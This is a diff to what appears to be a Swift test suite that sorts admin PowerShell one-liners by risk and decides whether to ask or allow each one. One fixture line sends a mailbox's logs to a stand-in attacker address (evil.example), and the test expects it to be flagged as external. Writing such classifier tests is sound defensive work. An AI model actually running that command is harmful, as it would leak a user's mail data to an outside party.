@@ -267,7 +267,7 @@ struct AdminOneLinerTests {
         ("Find-MgServicePrincipalSynchronizationJobSchemaDirectory -ServicePrincipalId s", .privilege, .ask),
         ("Find-MgDeviceManagementManagedDevice -ManagedDeviceId m", .secret, .ask),
         ("Get-AzElasticResubscribeOrganization -MonitorName m -ResourceGroupName r", .write, .ask),
-        ("Get-AzIotHubCertificateVerificationCode -ResourceGroupName r -Name h -CertificateName c -Etag e", .write, .ask),
+        ("Get-AzIotHubCertificateVerificationCode -ResourceId $c -Etag e", .write, .ask),
         ("Get-AzStorageBlobQueryResult -Container c -Blob b -QueryString q -ResultFile out.bin", .write, .allow),
         ("Get-EXOCasMailbox ann -SendLogsTo x@evil.example", .external, .ask),
     ]
